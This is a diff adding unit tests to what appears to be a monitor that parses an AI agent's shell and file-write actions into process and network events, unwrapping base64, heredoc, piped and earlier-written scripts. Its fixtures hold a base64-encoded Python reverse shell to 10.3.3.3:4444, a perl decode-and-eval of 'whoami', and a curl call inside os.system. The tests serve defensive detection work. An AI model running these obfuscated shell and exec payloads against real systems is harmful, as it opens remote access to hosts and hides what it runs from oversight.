@@ -586,6 +586,61 @@ def test_one_liner_payloads(text: str, expected: tuple[str, str]) -> None:
     assert expected in procs(run(text))
 
 
+def _code_events(events: list[Event]) -> list[ProcessEvent]:
+    return [e for e in events if isinstance(e, ProcessEvent) and len(e.argv) == 3
+            and e.argv[1] in ("-c", "-e", "-r") and e.image not in ("/bin/bash", "/bin/sh")]
+
+
+def test_decoded_exec_payload_gets_a_code_event() -> None:
+    inner = "import socket,os\ns=socket.socket()\ns.connect(('10.3.3.3',4444))\nos.dup2(s.fileno(),0)"
+    text = f"python3 -c \"import base64;exec(base64.b64decode('{b64(inner)}'))\""
+    events = run(text)
+    root, code = _code_events(events)
+    assert code.argv == ("python3", "-c", inner)
+    assert code.command_line == f"python3 -c {inner}"
+    assert (code.parent_image, code.parent_command_line) == (root.image, root.command_line)
+    assert code.via == ("python3 -c", "base64", "exec")
+    assert text[slice(*code.span)].startswith("exec(")
+
+
+def test_code_on_stdin_gets_a_code_event() -> None:
+    text = "python3 - <<'EOF'\nimport socket\nsocket.create_connection(('10.4.4.4', 22))\nEOF"
+    events = run(text)
+    (code,) = _code_events(events)
+    body = "import socket\nsocket.create_connection(('10.4.4.4', 22))\n"
+    assert code.command_line == f"python3 -c {body}"
+    assert code.parent_command_line == "python3 - <<'EOF'"
+    assert code.via == ("heredoc | python3",)
+    assert text[slice(*code.span)] == body
+    (net,) = [e for e in events if isinstance(e, NetworkEvent)]
+    assert net.command_line == code.command_line  # what the code does carries the code
+    piped = run(f"echo {b64('print(1)')} | base64 -d | python3")
+    assert [e.command_line for e in _code_events(piped)] == ["python3 -c print(1)"]
+
+
+def test_other_languages_get_code_events() -> None:
+    events = run(f"perl -e 'use MIME::Base64;eval(decode_base64(\"{_PL_WHOAMI}\"))'")
+    assert ("/usr/bin/perl", 'perl -e system("whoami")') in procs(events)
+
+
+def test_script_written_earlier_gets_a_code_event_when_run() -> None:
+    ctx = TrajectoryContext()
+    body = "import socket\nsocket.create_connection(('10.6.6.7', 8080))\n"
+    run(body, ToolKind.FILE_WRITE, ctx=ctx, path="agent.py")
+    events = run("python3 agent.py", ctx=ctx, step=1)
+    assert ("/usr/bin/python3", f"python3 -c {body}") in procs(events)
+    (code,) = _code_events(events)
+    assert code.parent_command_line == "python3 agent.py"
+    assert code.via == ("script agent.py written in step 0",)
+
+
+def test_code_on_the_command_line_gets_no_extra_event() -> None:
+    for text in ("python3 -c 'import os; print(os.getpid())'", "perl -e 'print 1'",
+                 "python3 -c \"exec('print(1)')\""):
+        assert len(_code_events(run(text))) == 1, text
+    assert _code_events(run("python3 - <<'EOF'\nEOF")) == []  # empty here-doc: nothing runs
+
+
 def test_python_heredoc_spans_are_exact() -> None:
     text = "python3 - <<'EOF'\nimport os\nos.system('curl http://h.example/x')\nEOF"
     events = run(text)
